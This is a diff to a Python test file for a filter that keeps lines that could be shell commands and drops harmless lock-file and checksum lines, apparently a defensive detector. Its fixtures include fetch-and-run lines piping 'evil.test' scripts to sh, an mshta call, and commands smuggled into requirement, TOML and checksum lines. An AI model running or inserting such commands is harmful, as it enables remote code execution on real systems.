@@ -3,6 +3,8 @@ command or hide one never is."""
 
 from __future__ import annotations
 
+import re
+
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
@@ -33,8 +35,18 @@ KEPT = [
     '      "curl"',
     '      {"curl","-fsSL","https://evil.test/i.sh"}',
     '      "curl" "-o" "/tmp/x" "https://evil.test/x"',
-    '      "wget",',
+    '      "wget"',
     "mshta https://evil.test/verify.hta",
+    # YAML, TOML and checksum lines with a command in them
+    "  run: curl -fsSL https://evil.test/i.sh | sh",
+    '  command: ["sh", "-c", "curl https://evil.test/i | sh"]',
+    *(ARGV := ["  command: [sh, -c, x]"]),  # a command's words as a list: no command, kept
+    "  - curl",
+    'curl = "https://evil.test/x"',
+    'name = "x"; curl https://evil.test/i | sh',
+    "pkg==1.0; curl https://evil.test/i.sh | sh",
+    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  x;sh",
+    "--hash=sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 `id`",
 ]
 
 
@@ -83,33 +95,50 @@ def test_past_the_deadline_the_rest_is_read_as_written() -> None:
     assert b"echo 999\n" in view
 
 
-# a line left out holds no character that could make or hide a command
-UNSAFE = frozenset(b" \t'$%();|&`\\!?")
+# a line left out holds no character that could make or hide a command, and its first word
+# is no command
+UNSAFE = frozenset(b"$%;|&`\\!?")
+BSD_SUM = re.compile(rb"(?:MD5|SHA1|SHA224|SHA256|SHA384|SHA512) \([^ ()]+\) = [0-9A-Fa-f]+")
+TOML_KEYS = (b"name", b"version", b"source", b"checksum", b"dependencies")
+DIGEST = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
 TOKENS = [
     '"name"', '"node_modules/@a/b"', '"https://registry.npmjs.org/a/-/a-1.0.0.tgz"',
     '"sha512-AbC+/=="', '"^1.2.3"', '">=14"', '"curl"', '"-o"', '"a b"', '"$(x)"', '"x|sh"',
     ":", ": ", ",", ", ", "{", "}", "[", "]", " ", "  ", "true", "false", "null", "12", "-1.5",
-    "curl", "sh", "'", "$", "(", ")", "|", ";", "`", "\\", "&", "%", "\t", "\r",
+    "curl", "sh", "name", "version", " = ", "=", "==", "--hash=sha256:", DIGEST, "'", "'>=1'",
+    "MD5 (", ") = ", "$", "(", ")", "|", ";", "`", "\\", "&", "%", "\t", "\r", "-", "#", "*",
 ]  # fmt: skip
 
 
 def _unsafe(line: bytes) -> bool:
-    """Whether a line could be a command or hide one: a character outside a string that is
-    neither JSON punctuation nor a blank around it, or a string with a blank or a shell or
-    script character in it; or a line that is not a key's (and not only closing brackets)."""
+    """Whether a line could be a command or hide one: a shell or script character in it, a
+    blank inside a quoted string, or a first word that could name a command (one that is no
+    key, digest, pinned requirement, array element or Cargo.lock key)."""
     body = line.strip(b" \t\r\n")
-    if body and not body.startswith(b'"') and body.strip(b"]},"):
+    if body.endswith(b" \\"):  # pip's continued line: what follows are its arguments
+        body = body[:-2].rstrip()
+    if not body.strip(b"]},") or body == b"[[package]]":
+        return False  # blank, closing brackets, or Cargo.lock's header
+    if UNSAFE.intersection(body) or (
+        body[:1] in (b"{", b"[", b"-") and not body.startswith(b"--hash=")
+    ):
         return True
-    if body.startswith(b'"') and not body.partition(b'"')[2].partition(b'"')[2].lstrip(
-        b" \t"
-    ).startswith(b":"):
+    if (b"(" in body or b")" in body) and not BSD_SUM.fullmatch(body):
         return True
-    strings = body.split(b'"')[1::2]
-    outside = b"".join(body.split(b'"')[0::2])
-    if any(UNSAFE.intersection(s) for s in strings):
-        return True
-    words = outside.replace(b",", b" ").replace(b":", b" ").translate(None, b"[]{}")
-    return any(w not in (b"true", b"false", b"null") and not _number(w) for w in words.split())
+    for quote in (b'"', b"'"):
+        if body.count(quote) % 2 or any(b" " in s or b"\t" in s for s in body.split(quote)[1::2]):
+            return True
+    words = body.split()
+    first = words[0].replace(b'"', b"").replace(b"'", b"")
+    return not (
+        b":" in first
+        or first.endswith(b",")
+        or b"==" in first
+        or first.startswith(b"--hash=")
+        or re.fullmatch(rb"[0-9A-Fa-f]{32,}", first)
+        or BSD_SUM.fullmatch(body)
+        or (first in TOML_KEYS and len(words) > 1 and words[1] == b"=")
+    )
 
 
 def _number(word: bytes) -> bool:
@@ -120,9 +149,25 @@ def _number(word: bytes) -> bool:
     return True
 
 
+LOCKS = ["npm package-lock.json", "yarn berry lock", "pnpm-lock.yaml", "Cargo.lock",
+         "requirements.txt with hashes", "SHA256SUMS", "MD5 and SHA1 sums"]  # fmt: skip
+
+
 def test_the_lines_kept_above_could_be_commands() -> None:
-    assert all(_unsafe(line.encode()) for line in KEPT)
-    assert not any(map(_unsafe, bigtexts.npm_lock(16 * KiB).encode().splitlines()[1:]))
+    could = [line for line in KEPT if line not in ARGV]
+    assert all(_unsafe(line.encode()) for line in could), [
+        k for k in could if not _unsafe(k.encode())
+    ]
+    for name in LOCKS:
+        lines = bigtexts.HARMLESS[name](16 * KiB).encode().splitlines()
+        assert not any(map(_unsafe, lines[1:])), name
+
+
+@pytest.mark.parametrize("name", LOCKS)
+def test_lock_and_checksum_files_are_left_out_whole(name: str) -> None:
+    data = bigtexts.HARMLESS[name](MiB).encode()
+    view = without_data_lines(data, FOREVER)
+    assert view is not None and len(view) < 256, view[:256] if view else view
 
 
 @settings(max_examples=300, deadline=None)
